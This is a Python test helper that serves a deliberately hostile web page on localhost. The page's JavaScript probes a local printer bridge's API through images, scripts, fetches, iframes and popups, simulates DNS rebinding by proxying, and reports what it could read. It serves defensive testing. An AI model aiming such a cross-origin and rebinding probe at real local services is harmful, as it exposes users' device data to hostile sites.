"""A site that tries what a foreign page can with the bridge's answers, and tells what came of it."""

import contextlib
import http.client
import json
import queue
import threading
from collections.abc import Iterator, Sequence
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from tests.support.edge_material import jpeg
from tests.support.timeouts import TIMEOUT

ATTACK = "/attack"
PICTURE = "/api/printer/P1/image"
DATA = "/api/overview"
FRAMED, FRAMED_READS = "/docs", "/openapi.json"  # a page of the bridge, and what it asks for when it runs

_PAGE = (
    """<!doctype html><meta charset="utf-8"><title>a hostile page</title><body><script>
const settled = (element, url) => new Promise((done) => {
  element.onload = () => done("taken");
  element.onerror = () => done("refused");
  element.src = url;
  if (element.tagName !== "IMG") document.body.append(element);
});
const image = (url) => settled(new Image(), url);
const script = (url) => settled(document.createElement("script"), url);
const until = (condition, then) => {
  if (condition()) then(); else setTimeout(() => until(condition, then), 10);
};
const tell = (path, body) => fetch(path, { method: "POST", body: JSON.stringify(body) });
const fetched = async (url, mode) => {
  try {
    const answer = await fetch(url, { mode });
    return answer.type === "opaque" ? "taken" : answer.status + " " + await answer.text();
  } catch { return "refused"; }
};
const text = (window) => { try { return window.document.body.innerText; } catch { return null; } };
const framed = async (url) => {
  const frame = document.createElement("iframe");
  await settled(frame, url);
  return text(frame.contentWindow) ?? "not read";
};
const opened = async (url) => {
  const other = open(url);
  until(() => other.closed, () => tell("/cut-loose", url));
  return await new Promise((done) => until(() => text(other) !== "", () => done(text(other) ?? "not read")));
};
const attack = async (target) => ({
  image: await image(target + "PICTURE"),
  script: await script(target + "DATA"),
  fetch: await fetched(target + "DATA", "cors"),
  blind: await fetched(target + "PICTURE", "no-cors"),
  frame: await framed(target + "FRAMED"),
  window: await opened(target + "/"),
});
const run = async () => {
  const found = {};
  for (const target of TARGETS) found[target] = await attack(target);
  await tell("/found", found);
};
run();
</script>""".replace("PICTURE", PICTURE)
    .replace("DATA", DATA)
    .replace("FRAMED", FRAMED)
)


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.page = b""
        self.behind: int | None = None
        self.told: dict[str, queue.SimpleQueue[Any]] = {
            "/found": queue.SimpleQueue(),
            "/cut-loose": queue.SimpleQueue(),
        }


class _Handler(BaseHTTPRequestHandler):
    server: _Server

    def do_GET(self) -> None:
        if self.path == ATTACK:
            self._answer(200, "text/html", self.server.page)
        elif self.server.behind is not None:
            self._pass_on(self.server.behind)
        elif self.path == PICTURE:
            self._answer(200, "image/jpeg", jpeg())
        elif self.path == DATA:
            self._answer(200, "text/javascript", b"[]")
        else:
            self._answer(200, "text/html", b"<title>somebody else's page</title>")

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self._answer(204, "text/plain", b"")
        self.server.told[self.path].put(json.loads(body))

    def _pass_on(self, port: int) -> None:
        """As the browser sent it: its name now means another machine."""
        with closing(http.client.HTTPConnection("127.0.0.1", port, timeout=TIMEOUT)) as connection:
            connection.putrequest("GET", self.path, skip_host=True, skip_accept_encoding=True)
            for name, value in self.headers.items():
                connection.putheader(name, value)
            connection.endheaders()
            answer = connection.getresponse()
            body = answer.read()
        self.send_response(answer.status)
        for name, value in answer.getheaders():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def _answer(self, status: int, content_type: str, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None: ...


class HostileSite:
    """Its pictures and data are free to all: what does a browser do where nothing protects?"""

    def __init__(self, server: _Server) -> None:
        self._server = server
        self.port = server.server_address[1]

    def attack(self, targets: Sequence[str], behind: int | None = None) -> None:
        """What its page shall try. `behind`: to whom everything but that page goes (DNS rebinding)."""
        self._server.page = _PAGE.replace("TARGETS", json.dumps(targets)).encode()
        self._server.behind = behind

    def found(self) -> dict[str, Any]:
        """What came of it, by target."""
        found: dict[str, Any] = self._server.told["/found"].get(timeout=TIMEOUT)
        return found

    def cut_loose(self) -> str:
        """The next page that it had opened and has no hold on any longer."""
        return str(self._server.told["/cut-loose"].get(timeout=TIMEOUT))


@contextlib.contextmanager
def hostile_site() -> Iterator[HostileSite]:
    with _Server() as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        try:
            yield HostileSite(server)
        finally:
            server.shutdown()
            thread.join(TIMEOUT)
